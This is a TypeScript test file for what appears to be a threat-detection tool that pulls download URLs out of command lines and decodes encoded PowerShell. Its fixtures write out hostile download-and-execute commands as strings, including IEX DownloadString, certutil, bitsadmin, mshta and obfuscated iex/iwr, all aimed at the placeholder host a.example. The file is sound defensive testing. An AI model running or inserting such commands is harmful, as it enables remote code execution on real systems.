import { describe, expect, it } from 'vitest'
import { orderedDownloads } from '../../../core/correlation/downloads.ts'
import { decodedCommand } from '../../../core/normalise/encoded-command.ts'

const encode = (text: string) => Buffer.from(text, 'utf16le').toString('base64')

describe('orderedDownloads', () => {
  it.each([
    [
      'Invoke-WebRequest -Uri https://a.example/x -OutFile C:\\t\\x.exe; Start-Process C:\\t\\x.exe',
      'https://a.example/x',
      'C:\\t\\x.exe',
    ],
    [
      "(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\y z.exe')",
      'http://a.example/x',
      'C:\\t\\y z.exe',
    ],
    [
      'certutil.exe -urlcache -split -f http://a.example/b.txt C:\\t\\b.exe',
      'http://a.example/b.txt',
      'C:\\t\\b.exe',
    ],
    ['curl -o C:\\t\\a.bin https://a.example/a.bin', 'https://a.example/a.bin', 'C:\\t\\a.bin'],
    ['bitsadmin /transfer job http://a.example/c.zip C:\\t\\c.zip', 'http://a.example/c.zip', 'C:\\t\\c.zip'],
    ['mshta http://a.example/d.hta', 'http://a.example/d.hta', undefined],
    [
      "IEX (New-Object Net.WebClient).DownloadString('https://a.example/s.ps1')",
      'https://a.example/s.ps1',
      undefined,
    ],
    ['i^e^x (i`wr https://a.example/e)', 'https://a.example/e', undefined],
    ["iwr ('https://a.ex'+'ample/f')", 'https://a.example/f', undefined],
  ])('%s', (text, url, path) => {
    expect(orderedDownloads(text)).toEqual([{ url, path, isSameStatement: true }])
  })

  it('takes an address kept in a variable for less sure', () => {
    expect(
      orderedDownloads("$u = 'https://a.example/x'\n(New-Object Net.WebClient).DownloadString($u)"),
    ).toEqual([{ url: 'https://a.example/x', path: undefined, isSameStatement: false }])
  })

  it('takes a relative place from the current directory', () => {
    expect(orderedDownloads('curl -o a.exe https://a.example/a', 'C:\\Users\\amber')[0]?.path).toBe(
      'C:\\Users\\amber\\a.exe',
    )
  })

  it.each([
    'echo https://a.example/',
    '"msedge.exe" --single-argument https://a.example/',
    `iwr ${Array.from({ length: 30 }, (_, index) => `https://a.example/${index}`).join(' ')}`,
    'iwr '.repeat(20_000) + 'https://a.example/',
  ])('orders nothing: %.60s', (text) => {
    expect(orderedDownloads(text)).toEqual([])
  })
})

describe('decodedCommand', () => {
  it.each(['-enc', '-e', '-EncodedCommand', '/ec'])('reads %s', (option) => {
    expect(decodedCommand(`powershell -nop ${option} ${encode('iwr https://a.example/ä')}`)).toBe(
      'iwr https://a.example/ä',
    )
  })

  it.each([
    'powershell -File C:\\a.ps1',
    `tool -e ${Buffer.from('plain bytes, not UTF-16 at all').toString('base64')}`,
    '-enc AAAA',
  ])('finds none in %s', (text) => {
    expect(decodedCommand(text)).toBeUndefined()
  })
})
